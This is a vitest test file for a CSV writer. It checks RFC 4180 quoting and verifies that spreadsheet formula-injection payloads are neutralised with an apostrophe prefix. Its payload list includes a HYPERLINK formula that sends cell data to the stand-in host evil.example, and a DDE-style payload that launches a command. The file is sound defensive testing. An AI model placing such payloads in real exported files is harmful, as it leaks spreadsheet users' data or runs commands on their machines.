import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvFile, csvLines, defuseCell, undefuseCell } from "./write";

describe("the one CSV writer", () => {
  it("writes RFC 4180: CRLF records, quoted fields holding a comma, a quote or a line break", () => {
    expect(
      csvFile(
        ["a", "b"],
        [
          ["x,y", 'say "hi"'],
          ["line\nbreak", "cr\ronly"],
          [null, 2.5],
        ],
      ),
    ).toBe('a,b\r\n"x,y","say ""hi"""\r\n"line\nbreak","cr\ronly"\r\n,2.5\r\n');
    expect(csvLines([[true, false, undefined]])).toBe("true,false,\r\n");
  });

  it("defuses every cell a spreadsheet would run as a formula (OWASP CSV injection)", () => {
    const payloads = [
      "=1+1",
      '=HYPERLINK("http://evil.example?"&A1,"click")',
      "+SUM(A1)",
      "-2+3",
      "@SUM(A1:A2)",
      "\t=cmd",
      "\r=cmd",
      '=cmd|" /C calc"!A0',
      "\uFF1D1+1", // a full-width equals sign, read as = by some spreadsheets
    ];
    for (const payload of payloads) expect(defuseCell(payload), JSON.stringify(payload)).toBe(`'${payload}`);
    const [row] = parse(csvLines([payloads]), { relax_quotes: true }) as string[][];
    for (const cell of row) expect(cell.startsWith("'"), JSON.stringify(cell)).toBe(true);
    // Text that is no formula is left alone; numbers are numbers, negative ones too.
    expect(defuseCell("a = b")).toBe("a = b");
    expect(csvLines([[-0.05, 0]])).toBe("-0.05,0\r\n");
  });

  it("marks reversibly: undefuseCell gives back exactly what was written, apostrophes included", () => {
    for (const text of ["=1+1", "'=1+1", "'", "''", "it's", "-", "plain", "@", "'plain"]) {
      expect(undefuseCell(defuseCell(text)), JSON.stringify(text)).toBe(text);
    }
    const original = [["=A1", "'quoted", "ok"]];
    const [back] = (parse(csvLines(original)) as string[][]).map((row) => row.map(undefuseCell));
    expect(back).toEqual(original[0]);
  });
});
